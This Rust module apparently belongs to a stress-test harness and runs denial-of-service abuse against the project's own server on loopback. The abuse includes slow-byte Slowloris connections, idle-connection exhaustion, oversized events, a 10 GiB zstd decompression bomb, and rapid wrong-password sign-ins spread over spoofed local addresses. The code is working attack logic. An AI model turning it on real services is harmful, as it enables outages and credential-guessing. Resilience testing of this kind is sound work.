//! The kinds of abuse. Each goes on until it is told to stop, in a thread of its own.

use std::collections::BTreeMap;
use std::io::Write as _;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Mutex, PoisonError};
use std::thread;
use std::time::Duration;

use anyhow::{Context as _, Result, bail};
use groundswell_engine::clock::Stopwatch;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{sleep, timeout};

use super::Options;
use crate::load::Target;

/// Before it gives up, an attacker waits so long.
const PATIENCE: Duration = Duration::from_mins(1);

/// Between two bytes of whoever sends slowly.
const TRICKLE: Duration = Duration::from_secs(2);

/// A kind of abuse.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Attack {
    Slow,
    Anonymous,
    Idle,
    Large,
    SignIns,
    Bomb,
}

/// Who suffers it.
#[derive(Debug, Clone)]
pub struct Victim {
    pub address: SocketAddr,
    /// Of a program that sends nothing anywhere.
    pub events: Target,
}

/// How an attack goes, and when it is over.
#[derive(Debug, Default)]
pub struct Score {
    is_ready: AtomicBool,
    is_over: AtomicBool,
    answers: Mutex<BTreeMap<u16, u64>>,
    /// Numbers that were given out.
    given: AtomicU64,
}

impl Score {
    /// Waits until the abuse is in place.
    pub fn wait_until_ready(&self) -> Result<()> {
        let watch = Stopwatch::start();
        while !self.is_ready.load(Ordering::Relaxed) {
            if watch.elapsed() > PATIENCE {
                bail!("the attack was not in place after {} s", PATIENCE.as_secs());
            }
            thread::sleep(Duration::from_millis(10));
        }
        Ok(())
    }

    /// Ends it.
    pub fn stop(&self) {
        self.is_over.store(true, Ordering::Relaxed);
    }

    /// How often it was answered what.
    pub fn answers(&self) -> BTreeMap<u16, u64> {
        self.answers.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }

    fn is_over(&self) -> bool {
        self.is_over.load(Ordering::Relaxed)
    }

    fn ready(&self) {
        self.is_ready.store(true, Ordering::Relaxed);
    }

    fn answered(&self, status: u16) {
        *self.answers.lock().unwrap_or_else(PoisonError::into_inner).entry(status).or_default() += 1;
    }

    fn next(&self) -> u64 {
        self.given.fetch_add(1, Ordering::Relaxed)
    }
}

impl Attack {
    /// All, in the order of the report.
    pub const ALL: [Self; 6] =
        [Self::Slow, Self::Anonymous, Self::Idle, Self::Large, Self::SignIns, Self::Bomb];

    /// What people read.
    pub fn title(self, options: &Options) -> String {
        let connections = options.connections;
        match self {
            Self::Slow => format!("{} slow heads and {} slow bodies", connections / 2, connections / 20),
            Self::Anonymous => format!("{connections} slow sign-ins"),
            Self::Idle => format!("{connections} idle connections"),
            Self::Large => "1 MiB events at full rate, 16 connections".to_owned(),
            Self::SignIns => format!("{} wrong sign-ins from 50 addresses", options.sign_ins),
            Self::Bomb => "decompression bombs of 10 GiB, 8 connections".to_owned(),
        }
    }

    /// Does it, until it is over.
    pub fn run(self, options: &Options, victim: &Victim, score: &Score) -> Result<()> {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
        runtime.block_on(async {
            match self {
                Self::Slow => slow_with_key(options.connections, victim, score).await,
                Self::Anonymous => {
                    let begun = form(victim, 1_000, "email=");
                    slow(options.connections, |_| begun.as_bytes(), (victim, score)).await
                }
                Self::Idle => idle(options.connections, victim, score).await,
                Self::Large => repeat(16, &large(victim), victim, score).await,
                Self::SignIns => sign_ins(options.sign_ins, victim, score).await,
                Self::Bomb => repeat(8, &bomb(victim)?, victim, score).await,
            }
        })
    }
}

fn head(victim: &Victim, headers: &str, length: usize) -> Vec<u8> {
    let Victim { address, events } = victim;
    let key = events.key.as_deref().unwrap_or_default();
    let path = &events.path;
    format!(
        "POST {path} HTTP/1.1\r\nhost: {address}\r\nauthorization: Bearer {key}\r\n{headers}\
         content-type: application/json\r\ncontent-length: {length}\r\n\r\n"
    )
    .into_bytes()
}

fn large(victim: &Victim) -> Vec<u8> {
    let event = r#"{"event":"NEW_PARTICIPANT_ADDED","data":{"id":"p1","note":"""#;
    let event = &event[..event.len() - 1];
    let body = format!("{event}{}\"}}}}", "x".repeat((1 << 20) - event.len() - 3));
    [head(victim, "", body.len()), body.into_bytes()].concat()
}

/// Frames of 64 MiB of zeros, one behind the other: a few hundred kilobytes that would be 10 GiB.
fn bomb(victim: &Victim) -> Result<Vec<u8>> {
    let mut frame = zstd::Encoder::new(Vec::new(), 1)?;
    let zeros = vec![0; 1 << 20];
    for _ in 0..64 {
        frame.write_all(&zeros)?;
    }
    let body = frame.finish()?.repeat(160);
    Ok([head(victim, "content-encoding: zstd\r\n", body.len()), body].concat())
}

/// The same request again and again, on each of some connections.
async fn repeat(connections: usize, request: &[u8], victim: &Victim, score: &Score) -> Result<()> {
    let one = async || -> Result<()> {
        let mut stream = None;
        while !score.is_over() {
            let mut open = match stream.take() {
                Some(open) => open,
                None => TcpStream::connect(victim.address).await.context("it does not listen")?,
            };
            let status = match open.write_all(request).await {
                Ok(()) => timeout(PATIENCE, status(&mut open)).await.context("there was no answer")?,
                Err(_) => 0,
            };
            score.answered(status);
            score.ready();
            if status != 0 {
                stream = Some(open);
            }
        }
        Ok(())
    };
    let all = std::iter::repeat_with(one).take(connections);
    futures::future::try_join_all(all).await.map(drop)
}

/// The status of an answer that is short enough to come at once; 0 when the connection ended.
async fn status(stream: &mut TcpStream) -> u16 {
    let mut piece = [0; 4096];
    let read = stream.read(&mut piece).await.unwrap_or(0);
    let text = piece.get(9..12).filter(|_| read > 12).and_then(|digits| std::str::from_utf8(digits).ok());
    text.and_then(|digits| digits.parse().ok()).unwrap_or(0)
}

/// Connections that have made a request and make no other; those that are closed are opened again.
async fn idle(connections: u64, victim: &Victim, score: &Score) -> Result<()> {
    let request = format!("GET /healthz HTTP/1.1\r\nhost: {}\r\n\r\n", victim.address);
    let mut open = Vec::new();
    for _ in 0..connections {
        open.push(TcpStream::connect(victim.address).await?);
    }
    for stream in &mut open {
        stream.write_all(request.as_bytes()).await?;
        score.answered(timeout(PATIENCE, status(stream)).await.context("there was no answer")?);
    }
    score.ready();
    while !score.is_over() {
        sleep(Duration::from_millis(200)).await;
        for stream in &mut open {
            // Nothing is read from one that is open.
            if matches!(stream.try_read(&mut [0; 16]), Ok(0)) {
                score.answered(0);
                *stream = TcpStream::connect(victim.address).await?;
                stream.write_all(request.as_bytes()).await?;
                let _ = timeout(PATIENCE, status(stream)).await;
            }
        }
    }
    Ok(())
}

/// Heads that come a byte at a time, and bodies of somebody who has a key.
async fn slow_with_key(connections: u64, victim: &Victim, score: &Score) -> Result<()> {
    let heads = connections / 2;
    let body = head(victim, "", 1 << 20);
    let begun = format!("GET /healthz HTTP/1.1\r\nhost: {}\r\nx: ", victim.address).into_bytes();
    let request = |number| if number < heads { &begun[..] } else { &body[..] };
    slow(heads + connections / 20, request, (victim, score)).await
}

/// What is begun so, by number, goes on a byte at a time, for ever.
async fn slow<'a>(
    all: u64,
    begun: impl Fn(u64) -> &'a [u8],
    (victim, score): (&Victim, &Score),
) -> Result<()> {
    let opened = AtomicU64::new(0);
    let one = async |number: u64| -> Result<()> {
        let request = begun(number);
        while !score.is_over() {
            let mut stream = TcpStream::connect(victim.address).await.context("it does not listen")?;
            let mut is_open = stream.write_all(request).await.is_ok();
            if opened.fetch_add(1, Ordering::Relaxed) + 1 == all {
                score.ready();
            }
            while is_open && !score.is_over() {
                sleep(TRICKLE).await;
                is_open = stream.write_all(b"x").await.is_ok() && stream.try_read(&mut [0; 64]).is_err();
            }
            score.answered(0);
        }
        Ok(())
    };
    futures::future::try_join_all((0..all).map(one)).await.map(drop)
}

/// What a browser posts to sign in; `body` may be the beginning of what it announces.
fn form(victim: &Victim, length: usize, body: &str) -> String {
    let address = victim.address;
    format!(
        "POST /sign-in HTTP/1.1\r\nhost: {address}\r\norigin: http://{address}\r\nsec-fetch-site: same-origin\r\n\
         content-type: application/x-www-form-urlencoded\r\ncontent-length: {length}\r\nconnection: close\r\n\r\n{body}"
    )
}

/// Wrong passwords for many accounts, from many addresses, each on a connection of its own, as fast as they are answered.
async fn sign_ins(count: u64, victim: &Victim, score: &Score) -> Result<()> {
    const AT_ONCE: usize = 64;
    let one = async || -> Result<()> {
        loop {
            let number = score.next();
            if number >= count {
                return Ok(());
            }
            let socket = TcpSocket::new_v4()?;
            let own = u8::try_from(number % 50)? + 2;
            socket.bind((Ipv4Addr::new(127, 0, 0, own), 0).into())?;
            let body = format!("email=person{}%40example.com&password=wrong-{number}", number % 1_000);
            let request = form(victim, body.len(), &body);
            let mut stream = socket.connect(victim.address).await.context("it does not listen")?;
            stream.write_all(request.as_bytes()).await?;
            let status = timeout(PATIENCE, status(&mut stream)).await.context("there was no answer")?;
            let _ = stream.read_to_end(&mut Vec::new()).await;
            score.answered(status);
            score.ready();
        }
    };
    let all = std::iter::repeat_with(one).take(AT_ONCE);
    futures::future::try_join_all(all).await.map(drop)
}
